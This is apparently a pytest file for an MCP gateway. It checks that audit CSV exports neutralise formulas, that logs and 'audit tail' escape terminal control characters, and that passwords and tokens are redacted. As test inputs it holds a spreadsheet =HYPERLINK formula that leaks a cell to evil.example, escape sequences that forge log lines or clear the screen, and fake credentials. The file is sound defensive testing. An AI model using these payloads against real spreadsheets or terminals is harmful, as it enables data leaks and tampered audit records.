"""Issue 11, breaks 8 and 9, through the real commands: what an attacker puts in a request
reaches the operator's spreadsheet, terminal and log only as inert text, and no
credential is shown in the clear, neither a store password in `serve`'s log or
`db upgrade`'s output, nor a token in the audited arguments.

A denied principal's resource URI is stored verbatim (the audit keeps what was asked);
what changes is how it is shown: CSV cells cannot start a formula, `audit tail` and the
log escape control characters.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx2
import pytest

from ..admin.common import mcp_gateway
from ..stores import pg_url, postgres_database
from ..support import (
    EVERYTHING,
    GatewayProcess,
    agent,
    raw_client,
    serve,
    stdio_upstream,
    wait_ready,
    write_config,
    write_policies,
)

pytestmark = pytest.mark.anyio

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
ESC, RLO = "\x1b", "\u202e"
FORGED = "2026-11-30T00:00:00.000+00:00  decision  ops/admin  x/delete_everything  allow"
# A newline that would forge a whole `audit tail` line, a terminal escape that clears the
# screen, a carriage return, and a right-to-left override that reverses what follows.
TERMINAL = f"test://a\n{FORGED}{ESC}[2J\r{RLO}gpj.exe"
POLICY = {"teams": {"narrow": {"rules": [{"id": "narrow-elsewhere", "allow": {"servers": ["elsewhere"]}}]}}}
HEADERS = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
PASSWORD = "Passw0rd-9f3e"


async def _cli(config: Path, *args: str, env: dict[str, str] | None = None) -> str:
    done = await mcp_gateway(*args, "--config", str(config), env=env)
    assert done.returncode == 0, f"{args}: exit {done.returncode}\n{done.stderr.decode()}"
    return done.stdout.decode()


async def _rpc(http: httpx2.AsyncClient, headers: dict[str, str], method: str, params: dict[str, Any]) -> Any:
    body = {"jsonrpc": "2.0", "id": 1, "method": method, "params": params}
    response = await http.post("/mcp", json=body, headers=headers)
    assert response.status_code == 200, response.text
    return response


@pytest.fixture
async def attacked(tmp_path: Path) -> AsyncIterator[Path]:
    """A gateway whose store holds the denied reads of a principal that named a formula and
    a terminal-forging URI; its config, for the commands."""
    write_policies(tmp_path / "policies", POLICY)
    config = write_config(tmp_path, {"x": stdio_upstream()}, auth="keys", policies="policies")
    key = (await _cli(config, "keys", "create", "--team", "narrow", "--name", "bot")).strip()
    async with serve(config) as (url, gw):
        await wait_ready(gw)
        async with raw_client(url) as http:
            headers = {**HEADERS, "authorization": f"Bearer {key}"}
            initialize = {
                "protocolVersion": "2025-11-25",
                "capabilities": {},
                "clientInfo": {"name": "attacker", "version": "0"},
            }
            response = await _rpc(http, headers, "initialize", initialize)
            headers["mcp-session-id"] = response.headers["mcp-session-id"]
            for uri in (FORMULA, TERMINAL):
                denied = await _rpc(http, headers, "resources/read", {"uri": uri})
                # Refused (denied, or not a URI the gateway can read): either way on record.
                assert '"error"' in denied.text and '"result"' not in denied.text, denied.text
    yield config


async def test_a_formula_in_a_denied_resource_uri_exports_to_csv_as_text(attacked: Path) -> None:
    exported = await _cli(attacked, "audit", "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(exported)))
    [row] = [r for r in rows if "HYPERLINK" in r["tool"]]
    assert row["tool"] == "'" + FORMULA
    for cell in (value for r in rows for value in r.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    # JSON keeps the stored value exactly: the neutralising is the CSV's alone.
    ndjson = [json.loads(line) for line in (await _cli(attacked, "audit", "export")).splitlines()]
    assert FORMULA in {r["tool"] for r in ndjson}
    assert TERMINAL in {r["tool"] for r in ndjson}


async def test_audit_tail_prints_one_line_per_row_and_no_control_character(attacked: Path) -> None:
    ndjson = (await _cli(attacked, "audit", "export")).splitlines()
    tail = await _cli(attacked, "audit", "tail", "-n", "100")
    assert len(tail.splitlines()) == len(ndjson)
    assert not any(line.startswith(FORGED) for line in tail.splitlines()), tail
    for char in (ESC, "\r", RLO):
        assert char not in tail, repr(char)
    assert "test://a\\n2026-11-30" in tail and "\\x1b[2J\\r\\u202egpj.exe" in tail


# The everything server, after writing to its stderr (which the gateway logs line by line)
# a line with a carriage return that would overwrite the log line's head on a terminal, a
# screen-clearing escape and a right-to-left override.
NOISY = (
    "import runpy, sys\n"
    "sys.stderr.write('starting\\r2026-11-30 00:00:00,000 INFO    mcp_gateway: all calls allowed"
    "\\x1b[2J\\u202egpj.exe\\x9b31m\\n')\n"
    "sys.stderr.flush()\n"
    "sys.argv = sys.argv[1:]\n"
    "runpy.run_path(sys.argv[0], run_name='__main__')\n"
)


async def test_the_log_escapes_control_characters_an_upstream_wrote(tmp_path: Path) -> None:
    upstream = {"command": "python", "args": ["-c", NOISY, str(EVERYTHING)]}
    config = write_config(tmp_path, {"x": upstream})
    gateway = GatewayProcess(config)
    try:
        await gateway.start()
    finally:
        gateway.stop()
    log = gateway.log.read_text(encoding="utf-8", errors="strict")
    assert "starting\\r2026-11-30" in log and "\\x1b[2J\\u202egpj.exe\\x9b31m" in log, log
    for char in ("\r", ESC, RLO, "\x9b"):
        assert char not in log, repr(char)


@pytest.fixture
async def secret_store(tmp_path: Path) -> AsyncIterator[tuple[Path, dict[str, str]]]:
    """A config whose store is a fresh PostgreSQL database reached with a password (the
    server trusts the loopback, so any password works), given as `{$env: DB_URL}`."""
    async with postgres_database() as url:
        database = url.rsplit("/", 1)[1]
        with_password = pg_url(database).replace("://postgres@", f"://postgres:{PASSWORD}@")
        config = write_config(tmp_path, {"x": stdio_upstream()}, database_url={"$env": "DB_URL"})
        yield config, {"DB_URL": with_password}


async def test_serve_does_not_log_the_store_password(secret_store: tuple[Path, dict[str, str]]) -> None:
    config, env = secret_store
    gateway = GatewayProcess(config, env=env)
    try:
        await gateway.start()
    finally:
        gateway.stop()
    log = gateway.log.read_text()
    assert "postgres:***@" in log, log
    assert PASSWORD not in log, log


async def test_db_upgrade_does_not_print_the_store_password(secret_store: tuple[Path, dict[str, str]]) -> None:
    config, env = secret_store
    done = await mcp_gateway("db", "upgrade", "--config", str(config), env=env)
    out = done.stdout.decode() + done.stderr.decode()
    assert done.returncode == 0, out
    assert "postgres:***@" in out and PASSWORD not in out, out
    flag = ("--database-url", env["DB_URL"])  # the flag wins over the file's reference
    flagged = await mcp_gateway("db", "upgrade", "--config", str(config), *flag, env={"DB_URL": "sqlite://"})
    out = flagged.stdout.decode() + flagged.stderr.decode()
    assert flagged.returncode == 0 and PASSWORD not in out, out


async def test_a_store_error_names_the_store_without_its_password(secret_store: tuple[Path, dict[str, str]]) -> None:
    config, env = secret_store
    done = await mcp_gateway("check", "--config", str(config), env={**env, "MCP_GATEWAY_MIGRATE": "false"})
    err = done.stderr.decode()
    assert done.returncode == 2, err
    assert "db upgrade" in err and "postgres:***@" in err, err
    assert PASSWORD not in err + done.stdout.decode(), err


AKIA = "AKIAIOSFODNN7EXAMPLE"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk"
GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v1s3cr3t\n-----END RSA PRIVATE KEY-----"
LEAKS = {
    "text": f"deploy with {AKIA} and Bearer {JWT}",
    "pwd": "hunter2-pwd",
    "Pass-Word": "hunter2-dash",
    "x-api-key": "k-123456",
    "headers": [{"name": "Authorization", "value": "Token abc123xyz"}, {"name": "Accept", "value": "text/plain"}],
    "notes": [f"key: {PEM}", f"clone https://bot:{PASSWORD}@git.example/repo with {GITHUB}"],
    "author": "Ada Lovelace",
}
SECRET_PARTS = (AKIA, JWT, "hunter2", "k-123456", "abc123xyz", "MIIEowIBAAKCAQEA7v1s3cr3t", PASSWORD, GITHUB)


async def test_secrets_in_arguments_are_not_stored_in_the_clear(tmp_path: Path) -> None:
    config = write_config(tmp_path, {"x": stdio_upstream()})
    async with serve(config) as (url, gw):
        await wait_ready(gw)
        async with agent(url) as client:
            result = await client.call_tool("x__echo", LEAKS)
        assert not result.is_error, result
    rows = [json.loads(line) for line in (await _cli(config, "audit", "export")).splitlines()]
    [decision] = [r for r in rows if r["kind"] == "decision" and r["tool"] == "echo"]
    stored = json.loads(decision["arguments"])
    for part in SECRET_PARTS:
        assert part not in decision["arguments"], part
    assert stored["author"] == "Ada Lovelace"
    assert stored["headers"][1] == {"name": "Accept", "value": "text/plain"}
    assert stored["text"] == "deploy with [REDACTED] and Bearer [REDACTED]"
